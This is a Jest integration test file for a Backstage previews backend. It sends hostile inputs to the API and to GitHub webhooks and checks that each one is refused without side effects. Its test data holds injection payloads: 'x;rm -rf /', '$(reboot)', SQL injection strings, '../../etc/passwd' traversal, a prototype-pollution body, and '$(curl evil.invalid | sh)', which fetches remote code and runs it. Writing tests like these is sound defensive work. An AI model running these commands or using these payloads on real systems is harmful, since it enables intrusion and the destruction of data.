import { Preview } from '@backstage-previews/plugin-previews-common';
import { waitFor } from '../../../plugins/previews-backend/src/testUtils';
import {
  SEC_REPO,
  SecurityBackend,
  secComponent,
  signedDelivery,
  startSecurityBackend,
} from './securityBackend';
import { publishImage } from '../../cluster/testImages';
import type { FakePullRequest } from '../../github/fakeGitHub';
import { pullRequestJson } from '../../github/githubRestObjects';
import { pullRequestEvent } from '../../github/webhookPayloads';

// The hostile input battery: every endpoint and the GitHub webhook path get
// malformed, oversized, injected and unauthenticated input. Each case checks
// the status code and the error message, that no preview row, history row
// or namespace appeared (and the existing preview did not change), and that
// the backend still serves. Real test cluster; names start with `sec`.

jest.setTimeout(180_000);

const run = Date.now().toString(36);
const WEBHOOK_SECRET = `sec-webhook-${run}`;
/** A component whose catalog spec copies one secret into its preview. */
const copying = (name: string, namespace: string, secret: string) =>
  secComponent(name, {
    'backstage-previews.io/spec': JSON.stringify({
      workloads: [
        {
          name: 'app',
          image: 'registry.local/sec:{branch}',
          port: 8080,
          envFromSecrets: ['copied'],
        },
      ],
      secrets: [{ name: 'copied', copyFrom: { namespace, name: secret } }],
    }),
  });
/** The only place this backend's previews may copy secrets from. */
const SECRET_SOURCES = [{ namespace: 'previews-shared', names: ['regcred'] }];
const entities = [
  secComponent('sec-shop'),
  copying('sec-copy-kube-system', 'kube-system', 'bootstrap-token-abcdef'),
  copying('sec-copy-preview-db', 'shop-main-0a1b2c3d', 'postgres'),
  copying('sec-copy-other-name', 'previews-shared', 'admin-token'),
  secComponent('sec-control-plane', {
    'backstage-previews.io/spec': JSON.stringify({
      workloads: [
        { name: 'app', image: 'registry.local/sec:{branch}', port: 8080 },
      ],
      nodeSelector: { 'node-role.kubernetes.io/control-plane': '' },
      tolerations: [{ operator: 'Exists' }],
    }),
  }),
  {
    ...secComponent('sec-plain'),
    metadata: { name: 'sec-plain', namespace: 'default', annotations: {} },
  },
];
const SHOP = 'component:default/sec-shop';

interface Case {
  name: string;
  method: 'get' | 'post' | 'put' | 'delete';
  /** Path under /api/previews (or absolute when it starts with /api/). `:id` is the existing preview's id. */
  path: string;
  body?: unknown;
  /** Sent as is, with this content type. */
  raw?: { text: string; type: string };
  query?: Record<string, unknown>;
  status: number;
  message: RegExp;
}

const long = (n: number) => 'a'.repeat(n);
const create = (
  body: unknown,
  status: number,
  message: RegExp,
  name: string,
): Case => ({
  name,
  method: 'post',
  path: '/previews',
  body,
  status,
  message,
});
const branchCase = (name: string, branch: unknown, message: RegExp) =>
  create({ entityRef: SHOP, branch }, 400, message, `create: branch ${name}`);
const refCase = (name: string, entityRef: unknown, message: RegExp) =>
  create(
    { entityRef, branch: `sec-${run}` },
    400,
    message,
    `create: entityRef ${name}`,
  );

const secretCase = (component: string, source: string) =>
  create(
    { entityRef: `component:default/${component}`, branch: `sec-${run}` },
    400,
    new RegExp(
      `^Invalid preview spec in annotation backstage-previews.io/spec of component:default/${component}: secrets\\[0\\]\\.copyFrom ${source} is not a secret source`,
    ),
    `create: a catalog spec copying ${source}`,
  );

const cases: Case[] = [
  // Secrets from outside previews.kubernetes.secretSources
  secretCase('sec-copy-kube-system', 'kube-system/bootstrap-token-abcdef'),
  secretCase('sec-copy-preview-db', 'shop-main-0a1b2c3d/postgres'),
  secretCase('sec-copy-other-name', 'previews-shared/admin-token'),
  create(
    { entityRef: 'component:default/sec-control-plane', branch: `sec-${run}` },
    400,
    /^Invalid preview spec in annotation backstage-previews.io\/spec of component:default\/sec-control-plane: nodeSelector node-role.kubernetes.io\/control-plane= is not a placement previews may choose .*; tolerations\[0\] \{"operator":"Exists"\} is not a toleration/,
    'create: a catalog spec placing pods on the control plane, tolerating every taint',
  ),
  // Branch names
  branchCase('empty', '', /Invalid branch "": the branch name is empty/),
  branchCase('300 characters', long(300), /longer than 255 characters/),
  branchCase('with ..', 'feat/../../etc/passwd', /contains "\.\."/),
  branchCase(
    'with a right-to-left override',
    'feat/\u202Etxt.exe',
    /bidirectional text control characters/,
  ),
  branchCase(
    'with a right-to-left mark',
    'feat/\u200Fx',
    /bidirectional text control characters/,
  ),
  branchCase(
    'with an isolate',
    'feat/\u2067x',
    /bidirectional text control characters/,
  ),
  branchCase('YAML key: value', 'key: value', /spaces or control characters/),
  branchCase(
    'YAML with a newline',
    'a\nmetadata:\n  name: x',
    /spaces or control characters/,
  ),
  branchCase('YAML flow sequence', '[a,b]', /one of ~ \^ : \? \* \[ \\/),
  branchCase('shell ; rm -rf /', 'x;rm -rf /', /spaces or control characters/),
  branchCase('shell pipe with space', 'x | sh', /spaces or control characters/),
  branchCase('NUL byte', 'feat\u0000x', /spaces or control characters/),
  branchCase('tab', 'feat\tx', /spaces or control characters/),
  branchCase('leading slash', '/feat', /starts or ends with "\/"/),
  branchCase('trailing slash', 'feat/', /starts or ends with "\/"/),
  branchCase('double slash', 'feat//x', /contains "\/\/"/),
  branchCase('option-like', '--upload-pack=touch', /starts with "-"/),
  branchCase(
    'hidden part',
    'feat/.git',
    /starts with "\." or ends with "\.lock"/,
  ),
  branchCase('.lock', 'feat.lock', /ends with "\.lock"/),
  branchCase('@{', 'main@{1}', /contains "@\{"/),
  branchCase('@', '@', /it is "@"/),
  branchCase('~', 'main~1', /one of ~/),
  branchCase('backslash', 'feat\\x', /one of ~/),
  branchCase('a number', 42, /branch must be a string/),
  branchCase('an object', { $gt: '' }, /branch must be a string/),
  branchCase('an array', ['main'], /branch must be a string/),
  branchCase('null', null, /branch must be a string/),
  // Entity refs
  refCase('missing', undefined, /entityRef must be a non-empty string/),
  refCase(
    'of another kind (API)',
    'api:default/sec-shop',
    /components only, not for kind "api"/,
  ),
  refCase(
    'of a user',
    'user:default/admin',
    /components only, not for kind "user"/,
  ),
  refCase(
    'with a path',
    'component:default/../sec-shop',
    /namespace and name must be 1–63 characters/,
  ),
  refCase(
    'SQL-looking',
    "component:default/x' OR '1'='1",
    /namespace and name must be 1–63 characters/,
  ),
  refCase('malformed', ':/', /Invalid entityRef/),
  refCase(
    '70-character name',
    `component:default/${long(70)}`,
    /namespace and name must be 1–63 characters/,
  ),
  refCase(
    'unknown',
    'component:default/sec-unknown',
    /No component component:default\/sec-unknown in the catalog/,
  ),
  refCase(
    'without previews',
    'component:default/sec-plain',
    /Previews are not enabled for component:default\/sec-plain/,
  ),
  refCase(
    'an object',
    { kind: 'component' },
    /entityRef must be a non-empty string/,
  ),
  // Other create fields and body shapes
  create(
    { entityRef: SHOP, branch: 'x', admin: true },
    400,
    /Unknown fields in the request body: admin/,
    'create: unknown field',
  ),
  {
    name: 'create: __proto__ field',
    method: 'post',
    path: '/previews',
    raw: {
      text: `{"entityRef":"${SHOP}","branch":"x","__proto__":{"isAdmin":true}}`,
      type: 'application/json',
    },
    status: 400,
    message: /Unknown fields in the request body: __proto__/,
  },
  create(
    { entityRef: SHOP, branch: 'x', sha: 'HEAD; rm -rf /' },
    400,
    /sha must be a commit id/,
    'create: shell in sha',
  ),
  create(
    { entityRef: SHOP, branch: 'x', sha: 'z'.repeat(40) },
    400,
    /sha must be a commit id/,
    'create: non-hex sha',
  ),
  create(
    { entityRef: SHOP, pullRequest: -1 },
    400,
    /pullRequest must be the number of a pull request/,
    'create: negative pullRequest',
  ),
  create(
    { entityRef: SHOP, pullRequest: 1e12 },
    400,
    /pullRequest must be the number/,
    'create: huge pullRequest',
  ),
  create(
    { entityRef: SHOP, pullRequest: '1' },
    400,
    /pullRequest must be the number/,
    'create: pullRequest as text',
  ),
  create(
    { entityRef: SHOP, pullRequest: 1, branch: 'x' },
    400,
    /either a branch \(and sha\) or a pullRequest/,
    'create: pullRequest and branch',
  ),
  create([], 400, /must be a JSON object/, 'create: a JSON array'),
  {
    name: 'create: text/plain',
    method: 'post',
    path: '/previews',
    raw: { text: `entityRef=${SHOP}&branch=x`, type: 'text/plain' },
    status: 400,
    message: /Send the request body as JSON/,
  },
  {
    name: 'create: form-encoded',
    method: 'post',
    path: '/previews',
    raw: {
      text: `entityRef=${encodeURIComponent(SHOP)}&branch=x`,
      type: 'application/x-www-form-urlencoded',
    },
    status: 400,
    message: /Send the request body as JSON/,
  },
  {
    name: 'create: malformed JSON',
    method: 'post',
    path: '/previews',
    raw: {
      text: '{"entityRef": "component:default/sec-shop", "branch": ',
      type: 'application/json',
    },
    status: 400,
    message: /JSON/,
  },
  {
    name: 'create: oversized body (64 kB)',
    method: 'post',
    path: '/previews',
    body: { entityRef: SHOP, branch: 'x', padding: long(64 * 1024) },
    status: 413,
    message: /too large/,
  },
  // Ids
  {
    name: 'get: SQL-looking id',
    method: 'get',
    path: `/previews/${encodeURIComponent("1' OR '1'='1")}`,
    status: 404,
    message: /No preview with id "1' OR '1'='1"/,
  },
  {
    name: 'get: 10 000-character id',
    method: 'get',
    path: `/previews/${long(10_000)}`,
    status: 404,
    message: /No preview with id "a{80}"$/,
  },
  {
    name: 'get: unknown uuid',
    method: 'get',
    path: '/previews/00000000-0000-4000-8000-000000000000',
    status: 404,
    message: /No preview with id/,
  },
  {
    name: 'get: upper-case uuid',
    method: 'get',
    path: '/previews/:ID',
    status: 404,
    message: /No preview with id/,
  },
  {
    name: 'destroy: SQL-looking id',
    method: 'delete',
    path: `/previews/${encodeURIComponent("x'; DROP TABLE previews;--")}`,
    status: 404,
    message: /No preview with id/,
  },
  {
    name: 'redeploy: SQL-looking id',
    method: 'post',
    path: `/previews/${encodeURIComponent('1 OR 1=1')}/redeploy`,
    status: 404,
    message: /No preview with id/,
  },
  {
    name: 'events: SQL-looking id',
    method: 'get',
    path: `/previews/${encodeURIComponent(
      "' UNION SELECT * FROM previews--",
    )}/events`,
    status: 404,
    message: /No preview with id/,
  },
  // Redeploy of the existing preview with bad bodies
  {
    name: 'redeploy: bad sha',
    method: 'post',
    path: '/previews/:id/redeploy',
    body: { sha: '$(reboot)' },
    status: 400,
    message: /sha must be a commit id/,
  },
  {
    name: 'redeploy: unknown field',
    method: 'post',
    path: '/previews/:id/redeploy',
    body: { force: true },
    status: 400,
    message: /Unknown fields in the request body: force/,
  },
  {
    name: 'redeploy: text/plain',
    method: 'post',
    path: '/previews/:id/redeploy',
    raw: { text: 'sha=abc', type: 'text/plain' },
    status: 400,
    message: /Send the request body as JSON/,
  },
  // Bulk destroy
  {
    name: 'bulk destroy: not a list',
    method: 'post',
    path: '/previews/bulk-destroy',
    body: { ids: 'all' },
    status: 400,
    message: /ids must be a list of 1 to 100 preview ids/,
  },
  {
    name: 'bulk destroy: empty',
    method: 'post',
    path: '/previews/bulk-destroy',
    body: { ids: [] },
    status: 400,
    message: /ids must be a list of 1 to 100/,
  },
  {
    name: 'bulk destroy: a bad id after a good one',
    method: 'post',
    path: '/previews/bulk-destroy',
    body: { ids: [':id', '1 OR 1=1'] },
    status: 400,
    message: /ids\[1\] is not a preview id: "1 OR 1=1"/,
  },
  {
    name: 'bulk destroy: an unknown id after a good one',
    method: 'post',
    path: '/previews/bulk-destroy',
    body: { ids: [':id', '00000000-0000-4000-8000-000000000000'] },
    status: 404,
    message: /No preview with id/,
  },
  {
    name: 'bulk destroy: unknown field',
    method: 'post',
    path: '/previews/bulk-destroy',
    body: { ids: [':id'], all: true },
    status: 400,
    message: /Unknown fields in the request body: all/,
  },
  // Queries
  {
    name: 'list: entityRef twice',
    method: 'get',
    path: '/previews',
    query: { entityRef: [SHOP, SHOP] },
    status: 400,
    message: /entityRef must be given once/,
  },
  {
    name: 'list: entityRef of a user',
    method: 'get',
    path: '/previews',
    query: { entityRef: 'user:default/x' },
    status: 400,
    message: /components only/,
  },
  {
    name: 'orphans: negative age',
    method: 'get',
    path: '/orphans',
    query: { minAgeMinutes: '-1' },
    status: 400,
    message: /minAgeMinutes must be a whole number of minutes from 0 to 525600/,
  },
  {
    name: 'orphans: 1e9 minutes',
    method: 'get',
    path: '/orphans',
    query: { minAgeMinutes: '1e9' },
    status: 400,
    message: /minAgeMinutes must be a whole number/,
  },
  {
    name: 'orphans: NaN',
    method: 'get',
    path: '/orphans',
    query: { minAgeMinutes: 'NaN' },
    status: 400,
    message: /minAgeMinutes must be a whole number/,
  },
  {
    name: 'branches: hostile entityRef',
    method: 'get',
    path: '/branches',
    query: { entityRef: 'component:default/$(id)' },
    status: 400,
    message: /namespace and name must be/,
  },
  {
    name: 'branches: 300-character q',
    method: 'get',
    path: '/branches',
    query: { entityRef: SHOP, q: long(300) },
    status: 400,
    message: /q must be one text of at most 200 characters/,
  },
  {
    name: 'branches: page 0',
    method: 'get',
    path: '/branches',
    query: { entityRef: SHOP, page: '0' },
    status: 400,
    message: /page must be a whole number from 1 to 1000/,
  },
  // Lifetime (helper C's /extend): hours that make no sense
  ...[0, -1, 'NaN', 1e9, '24'].map(
    (hours): Case => ({
      name: `extend: hours ${JSON.stringify(hours)}`,
      method: 'post',
      path: '/previews/:id/extend',
      body: { hours },
      status: 400,
      message:
        /^hours must be a whole number from 1 to 168 \(the maximum lifetime\), got /,
    }),
  ),
  // Dependency targets (helper A's PUT route)
  {
    name: 'reroute: malformed dependency ref',
    method: 'put',
    path: `/previews/:id/dependencies/${encodeURIComponent('../../etc')}`,
    body: { target: { kind: 'shared' } },
    status: 400,
    message:
      /^component:\.\.\/\.\.\/etc is not a dependency of preview sec-shop-sec-existing-/,
  },
  {
    name: 'reroute: unknown target kind',
    method: 'put',
    path: `/previews/:id/dependencies/${encodeURIComponent(
      'component:default/sec-unknown',
    )}`,
    body: { target: { kind: '$(reboot)' } },
    status: 400,
    message:
      /^component:default\/sec-unknown is not a dependency of preview sec-shop-sec-existing-/,
  },
  // Unknown routes and methods: a bare 404
  {
    name: 'unknown route',
    method: 'get',
    path: '/../../etc/passwd',
    status: 404,
    message: /^$/,
  },
  {
    name: 'PUT on a preview',
    method: 'put',
    path: '/previews/:id',
    body: { status: 'ready' },
    status: 404,
    message: /^$/,
  },
];

interface WebhookCase {
  name: string;
  /** Signs with this secret (undefined: no signature header). */
  secret?: string;
  /** Changes the body after signing. */
  tamper?: (body: string) => string;
  payload: (n: number) => unknown;
  event?: string;
  status: number;
  /**
   * What the plugin logs once it handled (and refused) the delivery, `#N`
   * standing for the pull request; undefined when it never reaches the plugin.
   */
  handled?: RegExp;
  message?: RegExp;
}

/** The `labeled` delivery of pull request `n` of SEC_REPO, its head as given (the pull request is not on the fake GitHub). */
const pr = (
  n: number,
  head: Omit<FakePullRequest['head'], 'sha'> & { sha?: string },
) =>
  pullRequestEvent(
    'labeled',
    pullRequestJson('https://api.github.test', SEC_REPO, {
      number: n,
      title: `Change ${n}`,
      state: 'open',
      draft: false,
      labels: ['preview'],
      head: { sha: 'a'.repeat(40), ...head },
      base: { ref: 'main' },
      updated_at: new Date().toISOString(),
    }),
    { label: 'preview' },
  );

const webhookCases: WebhookCase[] = [
  {
    name: 'unsigned',
    payload: n => pr(n, { ref: `sec-wh-${run}-${n}` }),
    status: 403,
    message: /invalid signature/,
  },
  {
    name: 'signed with another secret',
    secret: 'not-the-secret',
    payload: n => pr(n, { ref: `sec-wh-${run}-${n}` }),
    status: 403,
    message: /invalid signature/,
  },
  {
    name: 'body changed after signing',
    secret: WEBHOOK_SECRET,
    tamper: body => body.replace('"state":"open"', '"state":"closed"'),
    payload: n => pr(n, { ref: `sec-wh-${run}-${n}` }),
    status: 403,
    message: /invalid signature/,
  },
  {
    name: 'signed, branch with ..',
    secret: WEBHOOK_SECRET,
    payload: n => pr(n, { ref: '../../etc/passwd' }),
    status: 202,
    handled:
      /Creating a preview of component:default\/sec-shop for acme\/sec-shop#N was refused: Invalid branch "..\/..\/etc\/passwd": it contains "\.\."/,
  },
  {
    name: 'signed, branch with a right-to-left override',
    secret: WEBHOOK_SECRET,
    payload: n => pr(n, { ref: 'feat/\u202Etxt.exe' }),
    status: 202,
    handled:
      /acme\/sec-shop#N was refused: Invalid branch .*bidirectional text control characters/,
  },
  {
    name: 'signed, branch with a newline (YAML)',
    secret: WEBHOOK_SECRET,
    payload: n => pr(n, { ref: 'x\nkind: Secret' }),
    status: 202,
    handled:
      /acme\/sec-shop#N was refused: Invalid branch .*spaces or control characters/,
  },
  {
    name: 'signed, head commit with shell text',
    secret: WEBHOOK_SECRET,
    payload: n =>
      pr(n, { ref: `sec-wh-${run}-${n}`, sha: '$(curl evil.invalid | sh)' }),
    status: 202,
    handled: /acme\/sec-shop#N was refused: sha must be a commit id/,
  },
  {
    name: 'signed, from a fork',
    secret: WEBHOOK_SECRET,
    payload: n =>
      pr(n, { ref: `sec-wh-${run}-${n}`, repoFullName: 'mallory/sec-shop' }),
    status: 202,
    handled: /acme\/sec-shop#N labeled: ignore \(pull request from a fork\)/,
  },
];

describe('hostile input battery', () => {
  let sec: SecurityBackend;
  let existing: Preview;
  let prNumber = 9000;

  beforeAll(async () => {
    sec = await startSecurityBackend({
      entities,
      webhookSecret: WEBHOOK_SECRET,
      githubToken: `sec-token-${run}`,
      kubernetes: { secretSources: SECRET_SOURCES },
    });
    sec.github.repo(SEC_REPO);
    // the branch's image, as its CI would have pushed it
    await publishImage(`registry.local/sec:sec-existing-${run}`);
    const created = await sec
      .api()
      .post('/api/previews/previews')
      .send({ entityRef: SHOP, branch: `sec-existing-${run}` });
    expect(created.status).toBe(201);
    existing = await waitFor('the existing preview to be ready', async () => {
      const p = (
        await sec.api().get(`/api/previews/previews/${created.body.id}`)
      ).body as Preview;
      return p.status === 'ready' ? p : undefined;
    });
  });

  afterAll(async () => {
    if (existing) {
      await sec.api().delete(`/api/previews/previews/${existing.id}`);
      await waitFor('the existing preview to be destroyed', async () => {
        const p = (await sec.api().get(`/api/previews/previews/${existing.id}`))
          .body as Preview;
        return p.status === 'destroyed';
      });
    }
    await sec?.stop();
  });

  /** What must not change: rows, namespaces, and the existing preview. */
  async function snapshot() {
    const [{ n: previews }] = await sec.knex('previews').count({ n: '*' });
    const [{ n: events }] = await sec.knex('preview_events').count({ n: '*' });
    const current = (
      await sec.api().get(`/api/previews/previews/${existing.id}`)
    ).body as Preview;
    return {
      previews: Number(previews),
      events: Number(events),
      namespaces: await sec.namespaces(...entities.map(e => e.metadata.name)),
      existing: {
        status: current.status,
        sha: current.sha,
        updatedAt: current.updatedAt,
      },
    };
  }

  async function stillServes() {
    const health = await sec.api().get('/api/previews/health');
    expect(health.status).toBe(200);
    expect(health.body).toEqual({ status: 'ok' });
  }

  const withId = (v: unknown): unknown =>
    typeof v === 'string'
      ? v.replace(':id', existing.id).replace(':ID', existing.id.toUpperCase())
      : Array.isArray(v)
      ? v.map(withId)
      : v && typeof v === 'object'
      ? Object.fromEntries(Object.entries(v).map(([k, x]) => [k, withId(x)]))
      : v;

  it(`has at least 50 cases (${cases.length} HTTP, ${webhookCases.length} webhook)`, () => {
    expect(cases.length + webhookCases.length).toBeGreaterThanOrEqual(50);
  });

  it.each(cases.map(c => [c.name, c] as const))('%s', async (_name, c) => {
    const before = await snapshot();
    const path = withId(
      c.path.startsWith('/api/') ? c.path : `/api/previews${c.path}`,
    ) as string;
    let req = sec.api()[c.method](path);
    if (c.query) req = req.query(c.query as Record<string, string>);
    if (c.raw) req = req.set('Content-Type', c.raw.type).send(c.raw.text);
    else if (c.body !== undefined) req = req.send(withId(c.body) as object);
    const res = await req;
    expect({
      status: res.status,
      message: res.body?.error?.message ?? res.text,
    }).toEqual({
      status: c.status,
      message: expect.stringMatching(c.message),
    });
    // Refused requests change nothing (the refusal itself may be in the existing preview's history).
    const after = await snapshot();
    expect({ ...after, events: undefined }).toEqual({
      ...before,
      events: undefined,
    });
    if (
      !c.path.includes(':id') &&
      !JSON.stringify(c.body ?? '').includes(':id')
    )
      expect(after.events).toBe(before.events);
    await stillServes();
  });

  it.each(webhookCases.map(c => [c.name, c] as const))(
    'webhook: %s',
    async (_name, c) => {
      const before = await snapshot();
      const n = ++prNumber;
      const deliveryId = `sec-${run}-${n}`;
      const { body, headers } = signedDelivery(
        c.event ?? 'pull_request',
        c.payload(n),
        c.secret ?? 'unused',
        deliveryId,
      );
      const sent = c.tamper ? c.tamper(body) : body;
      expect(sent === body).toBe(!c.tamper);
      const hdrs: Record<string, string> = { ...headers };
      if (c.secret === undefined) delete hdrs['x-hub-signature-256'];
      const res = await sec
        .api()
        .post('/api/events/http/github')
        .set(hdrs)
        .send(sent);
      expect(res.status).toBe(c.status);
      if (c.message) expect(res.body?.message ?? res.text).toMatch(c.message);
      if (c.handled) {
        const handled = new RegExp(c.handled.source.replace('#N', `#${n}`));
        await waitFor(
          `the plugin to handle delivery ${deliveryId}`,
          () => handled.test(sec.logs.text()),
          30_000,
        ).catch(e => {
          throw new Error(
            `${e.message}; the log ends with:\n${sec.logs
              .text()
              .split('\n')
              .slice(-15)
              .join('\n')}`,
          );
        });
      } else {
        // Never reached the plugin: its delivery id was not claimed.
        expect(
          await sec
            .knex('previews_github_deliveries')
            .where({ delivery_id: deliveryId }),
        ).toEqual([]);
      }
      expect(await snapshot()).toEqual(before);
      await stillServes();
    },
  );

  // Odd but valid git branch names are accepted, and nothing of them reaches
  // Kubernetes unescaped: names are DNS labels, the image tag is a slug, the
  // branch itself only appears as an annotation value.
  it.each([
    ['unicode', `sec/ünïcødé-ß-${run}`],
    ['shell metacharacters', `sec/$(reboot)\`id\`;&|-${run}`],
    ['YAML-significant', `null-${run}`],
  ])('accepts a %s branch safely', async (_kind, branch) => {
    const created = await sec
      .api()
      .post('/api/previews/previews')
      .send({ entityRef: SHOP, branch });
    expect(created.status).toBe(201);
    const preview: Preview = created.body;
    expect(preview.branch).toBe(branch);
    expect(preview.name).toMatch(/^[a-z]([-a-z0-9]{0,61}[a-z0-9])?$/);
    const core = sec.kc.makeApiClient(sec.k8s.CoreV1Api);
    const ns = await core.readNamespace({ name: preview.name });
    expect(ns.metadata?.annotations?.['backstage-previews.io/branch']).toBe(
      branch,
    );
    const deployment = await sec.kc
      .makeApiClient(sec.k8s.AppsV1Api)
      .readNamespacedDeployment({ name: 'app', namespace: preview.name });
    expect(deployment.spec?.template.spec?.containers[0].image).toMatch(
      /^registry\.local\/sec:[a-z0-9][-a-z0-9.]*$/,
    );
    expect(
      (await sec.api().delete(`/api/previews/previews/${preview.id}`)).status,
    ).toBe(202);
    await waitFor('the preview to be destroyed', async () => {
      const p = (await sec.api().get(`/api/previews/previews/${preview.id}`))
        .body as Preview;
      return p.status === 'destroyed';
    });
    await stillServes();
  });
});
